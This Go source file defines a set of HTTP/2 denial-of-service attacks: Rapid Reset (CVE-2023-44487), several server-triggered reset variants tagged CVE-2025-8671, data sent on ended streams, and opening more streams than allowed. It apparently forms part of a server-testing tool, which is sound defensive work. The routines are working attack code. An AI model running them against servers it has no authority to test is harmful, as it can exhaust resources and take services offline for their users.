package attacks

import "golang.org/x/net/http2"

// resets are the attacks that end streams early: on a server that counts only open streams, the client can start any
// number.
var resets = []Attack{
	{Name: "rapid reset of refusals", CVE: "CVE-2023-44487", Run: func(a *Attacker) { a.reset(pathAnonymous) }},
	{Name: "rapid reset", CVE: "CVE-2023-44487", Run: func(a *Attacker) { a.reset(sized(2000)) }},
	{Name: "rapid reset of handlers that wait", CVE: "CVE-2023-44487", Run: func(a *Attacker) { a.reset(pathWait) }},
	{Name: "resets made by the server: data after the end", CVE: "CVE-2025-8671", Run: func(a *Attacker) {
		a.spread(2, manyFrames, Opening{}, func(c *Conn, i int) {
			c.head(stream(i), true, pathWait)
			_ = c.WriteData(stream(i), true, nil)
			c.sent()
		})
	}},
	{Name: "resets made by the server: depends on itself", CVE: "CVE-2025-8671", Run: func(a *Attacker) {
		a.spread(2, manyFrames, Opening{}, func(c *Conn, i int) {
			c.head(stream(i), true, pathWait)
			_ = c.WritePriority(stream(i), http2.PriorityParam{StreamDep: stream(i)})
			c.sent()
		})
	}},
	{Name: "resets made by the server: longer than declared", CVE: "CVE-2025-8671", Run: func(a *Attacker) {
		a.spread(2, manyFrames, Opening{}, func(c *Conn, i int) {
			c.head(stream(i), false, pathRead, "content-length", "1")
			_ = c.WriteData(stream(i), true, []byte("two"))
			c.sent()
		})
	}},
	{Name: "data of streams that have ended", Run: func(a *Attacker) {
		a.spread(2, manyFrames, Opening{}, func(c *Conn, i int) {
			if i == 0 {
				c.head(stream(0), true, sized(1))
			}
			_ = c.WriteData(stream(0), false, []byte("x"))
			c.sent()
		})
	}},
	{Name: "more streams than may be open", Run: func(a *Attacker) {
		a.spread(2, manyFrames, Opening{}, func(c *Conn, i int) { c.head(stream(i), true, pathWait) })
	}},
}

// reset opens streams and cancels each at once.
func (a *Attacker) reset(path string) {
	a.spread(4, manyFrames, Opening{}, func(c *Conn, i int) {
		c.head(stream(i), true, path)
		_ = c.WriteRSTStream(stream(i), http2.ErrCodeCancel)
		c.sent()
	})
}
